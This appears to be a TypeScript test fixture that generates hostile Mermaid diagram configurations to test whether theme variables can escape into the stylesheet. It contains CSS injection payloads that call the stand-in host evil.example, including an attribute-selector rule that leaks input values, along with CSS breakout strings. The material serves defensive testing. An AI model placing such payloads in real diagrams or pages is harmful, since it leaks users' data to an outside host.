// Mermaid diagrams whose configuration is written against the reader of the drawing: front matter and init directives whose
// values try to leave their place in the stylesheet. `evil.example` stands for the attacker's server.

const LOADS = [
  "*{background:image-set('https://evil.example/a' 1x)}",
  "*{background:url(https://evil.example/b)}",
  "input[value^=s3]+div{background:image-set('https://evil.example/c' 1x)}",
  "@import 'https://evil.example/d';",
  "@font-face{font-family:x;src:url(https://evil.example/e)}*{font-family:x}",
  "body{position:fixed;inset:0;display:block;list-style:url(https://evil.example/f)}",
];

// A string ends at a line feed, a carriage return and a form feed, a block at its brace, and a comment at its end.
const BREAKS: readonly ((css: string) => string)[] = [
  (css) => `red;}${css}`,
  (css) => `'\r;}\r${css}/*`,
  (css) => `"\r}\r${css}'`,
  (css) => `'\f;}${css}a{fill:'`,
  (css) => `red}@media '\r{}${css}'{a{fill:red}}`,
  (css) => `red}@media '\f{}${css}'{a{fill:red}}`,
  (css) => `red}@supports "\r{}${css}"{a{fill:red}}`,
  (css) => `red}@keyframes '\r{}${css}'{from{fill:red}}`,
  (css) => `red}a['\r{}${css}']{fill:red`,
  (css) => `red\\}${css}`,
  (css) => `/*'*/}${css}/*'*/`,
  (css) => `url(\r)}${css}`,
];

const DIAGRAMS = {
  radar: ["axisColor", "radar-beta\n  axis A, B, C\n  curve x{1,2,3}"],
  treemap: ["sectionStrokeColor", 'treemap-beta\n"A"\n    "B": 10\n    "C": 5'],
  xyChart: ["backgroundColor", "xychart-beta\n  x-axis [a, b]\n  y-axis 0 --> 9\n  bar [1, 2]"],
  packet: ["startByteColor", 'packet-beta\n  0-15: "A"'],
  cynefin: ["domainFontSize", "flowchart LR\n  a --> b"],
} as const;

/** Each nested theme variable and each way out, in YAML and in JSON by turns. */
export const HOSTILE_CONFIG: readonly string[] = Object.entries(DIAGRAMS).flatMap(([name, [variable, body]], nth) =>
  BREAKS.map((wayOut, at) => {
    const value = JSON.stringify(wayOut(LOADS[at % LOADS.length] ?? ""));
    return (nth + at) % 2 === 0
      ? `---\nconfig:\n  themeVariables:\n    ${name}:\n      ${variable}: ${value}\n---\n${body}`
      : `%%{init: {"themeVariables": {"${name}": {"${variable}": ${value}}}}}%%\n${body}`;
  }),
);

const KEYS =
  "themeVariables radar treemap xyChart packet axisColor fontFamily fontSize primaryColor lineColor flowchart sequence gantt journey c4 sankey nodeColors curve padding actorFontFamily axisFormat themeCSS look layout theme htmlLabels __proto__ constructor toString elk treeView filenameIcons".split(
    " ",
  );
const BODIES = [
  ...Object.values(DIAGRAMS).map(([, body]) => body),
  "sequenceDiagram\n  A->>B: x",
  "gantt\n  a :2020-01-01, 3d",
  "journey\n  section s\n  t: 5: me",
];
const PIECES = [
  "red",
  "#fff",
  "'",
  '"',
  "\r",
  "\n",
  "\f",
  "\0",
  "\\",
  "}",
  "{",
  ";",
  "/*",
  "*/",
  "@media ",
  "(",
  ")",
  "url(",
  "<",
  "]]>",
  "\u2028",
  "\ud800",
  "\uffff",
  ...LOADS,
];

/** Random configurations: any key anywhere, any value of any type. The same seed gives the same ones. */
export function randomConfigs(count: number, seed: number): string[] {
  let state = seed;
  const below = (most: number) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 4_294_967_296) * most);
  };
  const one = <Item>(items: readonly Item[]) => items[below(items.length)] as Item;
  const text = () => Array.from({ length: 1 + below(6) }, () => one(PIECES)).join("");
  const value = (depth: number): unknown => {
    const kind = below(depth > 3 ? 4 : 8);
    if (kind < 4) return one([text(), below(100), below(2) === 1, null]);
    if (kind === 4) return Array.from({ length: below(3) }, () => value(depth + 1));
    return Object.fromEntries(Array.from({ length: 1 + below(4) }, () => [one(KEYS), value(depth + 1)]));
  };
  return Array.from({ length: count }, () => {
    const config = JSON.stringify({ themeVariables: value(1), [one(KEYS)]: value(1) });
    const body = one(BODIES);
    return below(2) === 0 ? `---\nconfig: ${config}\n---\n${body}` : `%%{init: ${config}}%%\n${body}`;
  });
}
